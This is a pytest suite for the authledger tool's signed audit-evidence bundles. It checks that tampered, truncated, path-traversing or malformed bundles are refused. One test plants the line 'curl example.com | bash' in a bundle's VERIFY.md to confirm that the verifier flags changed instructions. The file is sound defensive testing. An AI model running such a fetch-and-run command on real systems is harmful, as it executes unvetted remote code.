"""authledger audit evidence and verify-evidence: the file, and every way to alter it."""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest

from cli.reading import catch_up
from ledger.log.prover import signed_checkpoint
from ledger.merkle.checkpoint import Checkpoint
from ledger.merkle.note import Note
from ledger.persistence.recorder import Recorder
from projections.evidence.make import canonical
from projections.views import Views
from tests.cli.conftest import Cli
from tests.ledger.children import appender

GRANTED = "regions region=cn-north-4 agency=asm_admin_trust"
NONE = "regions region=af-south-1"
STRANGER = "PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW"
BUNDLE = Path("evidence.zip")

Parts = dict[str, bytes]


@pytest.fixture
def key(cli: Cli, config: Path) -> str:
    """A signed ledger with one authorization; its verifier key."""
    assert config.exists()
    cli.authorize()
    vkey = cli.done("log init --origin example.com/authledger").out.strip()
    cli.done("console login --region ap-southeast-3 --user bob")
    return vkey


def parts() -> Parts:
    with zipfile.ZipFile(BUNDLE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rewrite(changed: Parts) -> None:
    with zipfile.ZipFile(BUNDLE, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in changed.items():
            archive.writestr(name, data)


def flipped(data: bytes, place: int = -10) -> bytes:
    changed = bytearray(data)
    changed[place] ^= 1
    return bytes(changed)


def an_entry(of: Parts) -> str:
    return next(name for name in of if name.startswith("entries/"))


# -- what it proves ------------------------------------------------------------------------------


def test_an_answer_is_checked_without_the_ledger(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    cli.lose()
    said = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json")
    assert {row["agency"] for row in said.json} == {"asm_admin_trust"}
    assert {row["status"] for row in said.json} == {"granted"}
    assert "whether other entries change the answer" in said.err
    assert "entries.jsonl" not in parts()


def test_evidence_for_an_empty_answer_holds_every_entry(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{NONE}"')
    assert "entries.jsonl" in parts()
    cli.lose()
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    assert "No rows: nothing that was recorded up to this position matches." in said.err


@pytest.mark.parametrize("view", ["logins", "capabilities", "usage", "agencies", "trustees"])
def test_an_answer_of_every_kind_of_view_is_verified(cli: Cli, key: str, view: str) -> None:
    cli.done(f"audit evidence {view} --complete")
    cli.done(f"audit verify-evidence evidence.zip --key {key}")


def test_evidence_can_answer_for_a_past_position(cli: Cli, key: str) -> None:
    cli.done("agency delete asm_admin_trust --override --reason gone")
    cli.done(f'audit evidence "{GRANTED}"')
    now = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json").json
    cli.done(f'audit evidence "{GRANTED}" --as-of @12')
    then = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json").json
    assert {row["status"] for row in now} == {"revoked"}
    assert {row["status"] for row in then} == {"granted"}


@pytest.mark.parametrize("asked", ["", "--known-at 9999-01-01"])
def test_an_entry_appended_while_evidence_is_made_is_not_part_of_it(
    cli: Cli, key: str, monkeypatch: pytest.MonkeyPatch, asked: str
) -> None:
    def then_append(views: Views) -> None:
        catch_up(views)
        cli.done("agency delete asm_admin_trust --override --reason gone")

    monkeypatch.setattr("cli.commands.audit.evidence.catch_up", then_append)
    cli.done(f'audit evidence "{GRANTED}" --complete {asked}')
    rows = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json").json
    assert {row["status"] for row in rows} == {"granted"}


@contextmanager
def another_writer(cli: Cli) -> Iterator[None]:
    """A process that appends to the ledger, each append with a checkpoint, as fast as it can."""
    with appender("on", cli.place, "writer") as writer:
        try:
            assert writer.stdout is not None
            assert writer.stdout.readline() == "open\n"
            yield
        finally:
            writer.kill()
            writer.communicate()


@pytest.mark.parametrize("cli", ["sqlite", "postgresql"], indirect=True)
def test_evidence_made_while_another_process_writes_verifies(cli: Cli, key: str) -> None:
    for number in range(20):
        cli.authorize(f"cn-north-4_{number}")
    with another_writer(cli):
        before = size_of(cli.done("log checkpoint").out)
        for number in range(3):
            cli.done(f"audit evidence regions -o {number}.zip")
        after = size_of(cli.done("log checkpoint").out)
    assert after > before, "the writer appended nothing meanwhile"
    for number in range(3):
        cli.done(f"audit verify-evidence {number}.zip --key {key}")


def size_of(checkpoint: str) -> int:
    return int(checkpoint.splitlines()[1])


def test_evidence_ignores_views_that_are_ahead_of_its_checkpoint(
    cli: Cli, key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def then_another_process_appends(recorder: Recorder) -> tuple[Note, Checkpoint]:
        signed = signed_checkpoint(recorder)
        cli.authorize("cn-east-3")
        cli.done("view regions")  # It catches the views up.
        return signed

    monkeypatch.setattr("projections.evidence.make.signed_checkpoint", then_another_process_appends)
    cli.done(f'audit evidence "{GRANTED}"')
    cli.done(f"audit verify-evidence evidence.zip --key {key}")


def test_evidence_holds_no_names(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}" --complete')
    assert not any(b"alice" in data or b"bob" in data for data in parts().values())


def test_the_same_question_gives_the_same_bytes(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}" -o one.zip')
    cli.done(f'audit evidence "{GRANTED}" -o two.zip')
    assert Path("one.zip").read_bytes() == Path("two.zip").read_bytes()


# -- openssl and sha256sum alone -----------------------------------------------------------------


def run_instructions(folder: Path, key: str) -> subprocess.CompletedProcess[str]:
    script = re.findall(r"```bash\n(.*?)```", (folder / "VERIFY.md").read_text(), re.DOTALL)[1]
    environment = {**os.environ, "VKEY": key}
    return subprocess.run(
        ["bash", "-c", script], cwd=folder, env=environment, capture_output=True, text=True, check=False
    )  # fmt: skip


@pytest.fixture
def unpacked(cli: Cli, key: str) -> Path:
    assert key
    if not shutil.which("openssl"):
        assert "CI" not in os.environ, "openssl is missing"
        pytest.skip("openssl is not installed")
    cli.done(f'audit evidence "{GRANTED}"')
    folder = cli.folder / "unpacked"
    with zipfile.ZipFile(BUNDLE) as archive:
        archive.extractall(folder)
    return folder


def test_the_instructions_verify_the_evidence(unpacked: Path, key: str) -> None:
    done = run_instructions(unpacked, key)
    assert done.stdout.endswith("verified\n"), done.stderr


@pytest.mark.parametrize("pattern", ["entries/*", "proofs/*", "checkpoint"])
def test_the_instructions_refuse_evidence_with_one_byte_changed(
    unpacked: Path, key: str, pattern: str
) -> None:
    path = min(unpacked.glob(pattern))
    place = path.read_bytes().index(b"\n", 40) - 5 if pattern == "proofs/*" else 30
    path.write_bytes(flipped(path.read_bytes(), place))
    done = run_instructions(unpacked, key)
    assert done.returncode
    assert "verified" not in done.stdout.splitlines()


def test_the_instructions_refuse_another_key(unpacked: Path) -> None:
    assert run_instructions(unpacked, STRANGER).returncode


# -- what is refused -----------------------------------------------------------------------------


def without(name: str) -> Callable[[Parts], Parts]:
    return lambda of: {each: data for each, data in of.items() if each != name}


def altered(name: str, place: int = -10) -> Callable[[Parts], Parts]:
    return lambda of: {**of, name: flipped(of[name], place)}


def ending(name: str, tail: bytes) -> Callable[[Parts], Parts]:
    return lambda of: {**of, name: of[name] + tail}


def in_question(old: bytes, new: bytes) -> Callable[[Parts], Parts]:
    return lambda of: {**of, "question.json": of["question.json"].replace(old, new)}


def moved(of: Parts) -> Parts:
    """Rename an entry to another position."""
    return {re.sub(r"/\d+\.", "/2.", n) if n == an_entry(of) else n: d for n, d in of.items()}


CRIMES: dict[str, tuple[Callable[[Parts], Parts], str]] = {
    "an entry altered": (lambda of: altered(an_entry(of))(of), "not verified"),
    "a proof altered": (lambda of: altered(_proof(of), 60)(of), "not verified"),
    "an entry moved": (moved, "is missing"),
    "an entry removed": (
        lambda of: {n: d for n, d in of.items() if n not in (an_entry(of), _proof(of))},
        "another answer",
    ),
    "a part added": (lambda of: {**of, "key": b"PeterNeumann"}, "does not belong in it"),
    "a path out of the folder": (lambda of: {**of, "../x": b""}, "does not belong in it"),
    "the answer altered": (
        lambda of: {**of, "answer.json": of["answer.json"].replace(b"granted", b"revoked")},
        "another answer",
    ),
    "the answer with a tail": (ending("answer.json", b" "), "another answer"),
    "another region asked": (in_question(b"cn-north-4", b"cn-east-3"), "needs complete evidence"),
    "an unknown column asked": (in_question(b'"region"', b'"salary"'), "is not a valid question"),
    "a key twice in the question": (
        in_question(b'{"', b'{"view":"x","'),
        "is not a valid question",
    ),
    "the question with a tail": (ending("question.json", b"x"), "is not a valid question"),
    "another view asked": (
        in_question(b'"regions"', b'"audit_trail"'),
        "is not a valid question",
    ),
    "a position not covered": (
        lambda of: {
            **of,
            "question.json": re.sub(rb'"position":\d+', b'"position":999', of["question.json"]),
        },
        "covers",
    ),
    "a count claimed with little": (
        in_question(b'"regions"', b'"usage"'),
        "needs complete evidence",
    ),
    "the checkpoint altered": (altered("checkpoint", 30), "not verified"),
    "no checkpoint": (without("checkpoint"), "is missing"),
    "no answer": (without("answer.json"), "is missing"),
}


def _proof(of: Parts) -> str:
    return an_entry(of).replace("entries/", "proofs/").replace(".json", ".tlog-proof")


@pytest.mark.parametrize("crime", CRIMES)
def test_evidence_is_refused_with(cli: Cli, key: str, crime: str) -> None:
    commit, saying = CRIMES[crime]
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite(commit(parts()))
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert (said.code, said.out) == (6, "")
    assert saying in said.err


IN_A_QUESTION = ("complete", "effective_at", "position", "rules", "view", "where")
IN_A_CONDITION = ("region", "since")
ODD: tuple[object, ...] = (None, True, 7, 1.5, [], {}, ["x"], "\0")


def test_an_altered_question_is_never_verified_as_another(cli: Cli, key: str) -> None:
    """`region=null` was answered for every region, and `region=[]` was called damaged views."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    for place in (*IN_A_QUESTION, *IN_A_CONDITION):
        for value in ODD:
            if (place, value) in (("effective_at", None), ("where", {}), ("rules", "\0")):
                continue
            question = json.loads(of["question.json"])
            (question if place in IN_A_QUESTION else question["where"])[place] = value
            rewrite({**of, "question.json": canonical(question)})
            said = cli(f"audit verify-evidence evidence.zip --key {key}")
            assert (said.code, said.out) == (6, ""), f"{place}={value!r}: {said.err}"


@pytest.mark.parametrize("text", [b"[" * 100_000, b'{"position":' + b"9" * 5_000 + b"}", b"\xff"])
def test_a_question_that_cannot_be_read_is_not_verified(cli: Cli, key: str, text: bytes) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite({**parts(), "question.json": text})
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "question.json is not a valid question" in said.err


def test_parts_compressed_in_another_way_are_refused(cli: Cli, key: str) -> None:
    """Other compression libraries raise errors of their own."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    with zipfile.ZipFile(BUNDLE, "w", zipfile.ZIP_LZMA) as archive:
        for name, data in of.items():
            archive.writestr(name, data)
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "compressed in a way" in said.err


COMPLETE_CRIMES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "an entry altered": (flipped, "not verified"),
    "an entry removed": (lambda data: data.split(b"\n", 1)[1], "ends too early"),
    "two entries swapped": (
        lambda data: b"\n".join([*reversed(data.split(b"\n")[:2]), *data.split(b"\n")[2:]]),
        "not verified",
    ),
    "an entry more": (lambda data: data + b"{}\n", "has more than the"),
    "the last line without its end": (lambda data: data[:-1], "ends too early"),
    "a version beyond all numbers": (
        lambda data: data.replace(b'"version":1', b'"version":' + b"9" * 30, 1),
        "cannot be read",
    ),
    "an entry nested deeply": (
        lambda data: b"[" * 60_000 + b"\n" + data.split(b"\n", 1)[1],
        "cannot be read",
    ),
    "a line without an end": (lambda data: b"x" * 100_000 + data, "too long"),
}


@pytest.mark.parametrize("crime", COMPLETE_CRIMES)
def test_complete_evidence_is_refused_with(cli: Cli, key: str, crime: str) -> None:
    commit, saying = COMPLETE_CRIMES[crime]
    cli.done(f'audit evidence "{NONE}"')
    of = parts()
    rewrite({**of, "entries.jsonl": commit(of["entries.jsonl"])})
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert saying in said.err


def test_no_byte_of_the_file_can_be_changed_to_another_answer(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    genuine = BUNDLE.read_bytes()
    good = cli.done(f"audit verify-evidence evidence.zip --key {key}").out
    refused = 0
    for place in range(0, len(genuine), len(genuine) // 150):
        BUNDLE.write_bytes(flipped(genuine, place))
        said = cli(f"audit verify-evidence evidence.zip --key {key}")
        assert (said.code, said.out) in ((6, ""), (0, good)), place
        refused += said.code == 6
    assert refused > 100


def test_two_parts_of_the_same_name_are_refused(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(BUNDLE, "a") as archive:
        archive.writestr("answer.json", b"{}")
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "two of its parts have the same name" in said.err


def test_evidence_does_not_verify_under_another_key(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}"')
    said = cli(f"audit verify-evidence evidence.zip --key {STRANGER}")
    assert said.code == 6
    assert "No trusted key" in said.err


def test_verifying_evidence_requires_a_key(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}"')
    assert cli("audit verify-evidence evidence.zip").code == 2


def test_a_file_that_is_not_an_archive_is_refused(cli: Cli, key: str) -> None:
    BUNDLE.write_bytes(b"PK nothing")
    assert cli(f"audit verify-evidence evidence.zip --key {key}").code == 6
    assert cli(f"audit verify-evidence nothing.zip --key {key}").code == 4


def test_other_instructions_than_this_programs_are_noted(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite({**parts(), "VERIFY.md": b"curl example.com | bash"})
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    assert (
        "Note: VERIFY.md in the evidence differs from this program's: read it before you run"
        in said.err
    )


@pytest.mark.parametrize(
    ("question", "code", "saying"),
    [
        ("nothing", 4, "There is no view 'nothing'"),
        ("audit_trail", 4, "audit_trail cannot be used as evidence"),
        ("agencies agency", 2, "write each condition as column=value"),
        ("agencies colour=red", 2, "no column 'colour'"),
        ("", 2, "is not a valid question"),
    ],
)
def test_a_question_that_is_not_valid_is_refused(
    cli: Cli, key: str, question: str, code: int, saying: str
) -> None:
    assert key
    said = cli(f'audit evidence "{question}"')
    assert said.code == code
    assert saying in said.err
    assert not BUNDLE.exists()


def test_without_a_checkpoint_evidence_cannot_be_made(cli: Cli) -> None:
    cli.authorize()
    said = cli(f'audit evidence "{GRANTED}"')
    assert said.code == 4
    assert "no checkpoint" in said.err


def altered_ledger(cli: Cli, alteration: str) -> None:
    with closing(sqlite3.connect(cli.ledger)) as db:
        for (name,) in db.execute(
            "SELECT name FROM sqlite_schema WHERE type = 'trigger'"
        ).fetchall():
            db.execute(f"DROP TRIGGER {name}")
        db.execute(alteration)
        db.commit()


@pytest.mark.parametrize(
    ("alteration", "question", "finding"),
    [
        (
            "UPDATE events SET entry = replace(entry, 'alice', 'x') || ' '",
            GRANTED,
            "does not match the checkpoint",
        ),
        ("DELETE FROM events WHERE position = 2", NONE, "do not give the root of the checkpoint"),
    ],
)
def test_evidence_is_not_made_from_an_altered_ledger(
    cli: Cli, key: str, alteration: str, question: str, finding: str
) -> None:
    assert key
    cli.done("view regions")
    altered_ledger(cli, alteration)
    said = cli(f'audit evidence "{question}"')
    assert said.code == 6
    assert finding in said.err
    assert "No evidence was written" in said.err
    assert not BUNDLE.exists()


# -- what is said of an answer -------------------------------------------------------------------


NOT_OTHERS = (
    "Not checked: whether other entries change the answer: this evidence does not hold every "
    "entry (--complete)."
)
NOT_LATER = "Not checked: what was appended after the checkpoint, and what was never recorded."
CLAUSES = {GRANTED: [NOT_OTHERS, NOT_LATER], NONE: [NOT_LATER]}


@pytest.mark.parametrize("question", CLAUSES)
def test_every_answer_lists_what_was_not_checked(cli: Cli, key: str, question: str) -> None:
    cli.done(f'audit evidence "{question}"')
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    lines = said.err.splitlines()
    assert [line for line in lines if line.startswith(("Not ", "Note"))] == CLAUSES[question]


OTHER_VERSIONS = {
    "rules": "Note: The evidence was made with the rules other; this program recomputed the answer "
    "with its own, ",
    "catalogue": "Note: The evidence was made with the catalogue other; this program recomputed "
    "the answer with ",
}


@pytest.mark.parametrize("name", OTHER_VERSIONS)
def test_evidence_made_by_another_version_is_noted(cli: Cli, key: str, name: str) -> None:
    """Each of the two by itself, and only the one that differs."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    question = json.loads(of["question.json"]) | {name: "other"}
    rewrite({**of, "question.json": canonical(question)})
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    (note,) = (line for line in said.err.splitlines() if line.startswith("Note: "))
    assert note.startswith(OTHER_VERSIONS[name])
    assert note.endswith(", and it is the same.")


# -- made by an older version --------------------------------------------------------------------

OLDER = Path(__file__).parent / "bundles"
OLDER_KEY = "example.com/authledger+b4610c50+AfklrK7jvDwwPgDwaVSxXCElatarIGwWK3sfSggav7Gd"


@pytest.mark.parametrize(("bundle", "rows"), [("granted.zip", 4), ("nothing.zip", 0)])
def test_evidence_that_names_a_view_by_its_former_name_is_verified(
    cli: Cli, bundle: str, rows: int
) -> None:
    said = cli.done(f"audit verify-evidence {OLDER / bundle} --key {OLDER_KEY} -o json")
    assert len(said.json) == rows
    assert "entries: region_agencies " in said.err


def test_new_evidence_uses_the_current_name_of_a_view(cli: Cli, key: str) -> None:
    cli.done('audit evidence "region_agencies region=cn-north-4"')
    assert json.loads(parts()["question.json"])["view"] == "regions"
